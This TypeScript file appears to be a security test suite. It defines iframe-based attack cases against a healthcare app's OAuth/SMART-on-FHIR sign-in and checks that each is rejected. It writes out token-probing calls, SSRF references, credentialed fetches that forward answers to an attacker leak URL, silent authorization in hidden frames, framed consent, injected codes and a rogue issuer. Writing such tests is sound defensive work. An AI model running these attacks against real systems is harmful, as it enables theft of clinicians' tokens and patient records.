import type { FrameAttack } from '../../attack-case.ts';
import type { AttackEvidence } from '../../evidence.ts';
import {
  allOf,
  noCodeGiven,
  noTokenOut,
  nothingExchanged,
  nothingLeaked,
  realmIntact,
} from '../../verdicts.ts';
import { askedAs, authorizeUrl } from './requests.ts';

/** The frame tries; whatever the authorization server answers is in its journal. */
const inHiddenFrame =
  (changed: Readonly<Record<string, string | undefined>>): FrameAttack['act'] =>
  async (kit) => {
    await kit.join();
    const frame = document.createElement('iframe');
    frame.src = authorizeUrl(kit.facts, changed);
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
    document.body.append(frame);
    await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 1_000))]);
  };

/** Every answer that the authorization server gave into a frame says that it will not be framed. */
const neverFramed = ({ requests }: AttackEvidence) => {
  const framed = requests.find(
    ({ server, url, headers, status, answer }) =>
      server === 'simulator' &&
      url.startsWith('/auth/') &&
      headers['sec-fetch-dest'] === 'iframe' &&
      (status < 300 || status >= 400) &&
      !/frame-ancestors 'none'/.test(answer['content-security-policy'] ?? ''),
  );
  return framed && 'a page of the authorization server may be shown in a frame';
};

/** Rows 8 to 13 from inside a plugin's frame. */
export const SIGN_IN_FROM_FRAME: readonly FrameAttack[] = [
  {
    id: 't08-life-of-a-plugin',
    threat: 8,
    kind: 'frame',
    title: 'Does everything a plugin may, and keeps all it is given: search it for tokens',
    rejected: 'No token crosses the port, stands in an address or is sent to the attacker.',
    control: 'bare',
    act: async (kit) => {
      const { lease } = await kit.join();
      const { patient, otherPatient } = kit.facts;
      await kit.call('fhir.read', { lease, reference: `Patient/${patient}` });
      await kit.call('fhir.read', { lease, reference: `Patient/${otherPatient}` });
      await kit.call('fhir.read', { lease, reference: 'Observation/there-is-none' });
      await kit.call('fhir.search', { lease, resourceType: 'Observation', parameters: {} });
      for (const method of ['token', 'auth.token', 'session', 'accessToken', 'context.token'])
        await kit.call(method, {});
    },
    verdict: allOf(realmIntact, noTokenOut),
  },
  {
    id: 't08-server-side-request',
    threat: 8,
    kind: 'frame',
    title: 'Makes the workplace send a request with its token to the attacker’s server',
    rejected: 'Nothing arrives at the attacker.',
    control: 'bare',
    act: async (kit) => {
      const { lease } = await kit.join();
      const address = kit.leakUrl('token');
      for (const reference of [address, address.replace(/^https?:/, ''), `@${new URL(address).host}/leak/x`])
        await kit.call('fhir.read', { lease, reference });
      await kit.call('fhir.search', { lease, resourceType: address, parameters: {} });
      await kit.call('fhir.search', { lease, resourceType: 'Observation', cursor: address.slice(0, 64) });
    },
    verdict: allOf(realmIntact, noTokenOut, nothingLeaked),
  },
  {
    id: 't08-token-endpoint',
    threat: 8,
    kind: 'frame',
    title: 'Asks the token endpoint and the key release from its own page, with whatever cookies there are',
    rejected: 'No answer is given across origins.',
    act: async (kit) => {
      await kit.join();
      const { issuer } = kit.facts;
      const tries = [`${issuer}/token`, `${issuer}/userinfo`, `${new URL(issuer).origin}/keys/outbox`];
      for (const address of tries) {
        await fetch(address, { credentials: 'include' })
          .then((answer) => answer.text())
          .then((text) => fetch(kit.leakUrl(`answer-of-${text.length}-characters`), { mode: 'no-cors' }))
          .catch(() => undefined);
      }
    },
    verdict: allOf(realmIntact, noTokenOut, nothingLeaked),
  },
  {
    id: 't09-silent-authorize',
    threat: 9,
    kind: 'frame',
    title: 'Asks for a code in a hidden frame with prompt=none, on the clinician’s session',
    rejected: 'No code is given, and no page of the authorization server may stand in a frame.',
    act: inHiddenFrame({}),
    verdict: allOf(realmIntact, askedAs, noCodeGiven, neverFramed),
  },
  {
    id: 't09-framed-consent',
    threat: 9,
    kind: 'frame',
    title: 'Shows the sign-in in its own frame, to lead the clinician’s click',
    rejected: 'The page says that it may not be framed.',
    control: 'headers-off',
    act: inHiddenFrame({ prompt: undefined }),
    verdict: allOf(realmIntact, askedAs, noCodeGiven, neverFramed),
  },
  {
    id: 't09-fetched-authorize',
    threat: 9,
    kind: 'frame',
    title: 'Fetches the authorization endpoint with credentials and follows where it leads',
    rejected: 'No code is given.',
    act: async (kit) => {
      await kit.join();
      const { issuer, clientId, redirectUri } = kit.facts;
      const query = new URLSearchParams({
        client_id: clientId,
        redirect_uri: redirectUri,
        response_type: 'code',
        scope: 'openid',
        prompt: 'none',
        state: 'x'.repeat(32),
        code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
        code_challenge_method: 'S256',
      });
      await fetch(`${issuer}/authorize?${query}`, { credentials: 'include', mode: 'no-cors' }).catch(
        () => undefined,
      );
    },
    verdict: allOf(realmIntact, askedAs, noCodeGiven),
  },
  {
    id: 't10-no-challenge-in-frame',
    threat: 10,
    kind: 'frame',
    title: 'Asks for a code without a code challenge, in a frame',
    rejected: 'No code is given.',
    act: inHiddenFrame({ code_challenge: undefined, code_challenge_method: undefined }),
    verdict: allOf(realmIntact, askedAs, noCodeGiven),
  },
  {
    id: 't11-answer-in-frame',
    threat: 11,
    kind: 'frame',
    title: 'Loads the workplace’s redirect address in a frame, with a code of another server',
    rejected: 'The workplace exchanges nothing.',
    act: async (kit) => {
      await kit.join();
      const frame = document.createElement('iframe');
      frame.src = `${kit.facts.redirectUri}?code=attackers-code&state=attackers-state&iss=${encodeURIComponent(kit.facts.attackerOrigin)}`;
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.append(frame);
      await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 1_000))]);
    },
    verdict: allOf(realmIntact, nothingExchanged),
  },
  {
    id: 't12-replayed-launch-in-frame',
    threat: 12,
    kind: 'frame',
    title: 'Launches the app in a frame with a launch id that it made up',
    rejected: 'No code is given.',
    act: async (kit) => {
      await kit.join();
      const { appUrl, fhirBaseUrl } = kit.facts;
      const frame = document.createElement('iframe');
      frame.src = `${appUrl}?iss=${encodeURIComponent(fhirBaseUrl)}&launch=made-up`;
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.append(frame);
      await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 1_000))]);
    },
    verdict: allOf(realmIntact, noCodeGiven, nothingExchanged),
  },
  {
    id: 't13-rogue-iss-in-frame',
    threat: 13,
    kind: 'frame',
    title: 'Launches the app in a frame with the attacker’s server as its issuer',
    rejected: 'The attacker’s server is not even asked.',
    act: async (kit) => {
      await kit.join();
      const { appUrl, attackerOrigin } = kit.facts;
      const frame = document.createElement('iframe');
      frame.src = `${appUrl}?iss=${encodeURIComponent(`${attackerOrigin}/leak/fhir`)}&launch=x`;
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.append(frame);
      await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 1_000))]);
    },
    verdict: allOf(realmIntact, nothingLeaked, nothingExchanged),
  },
];
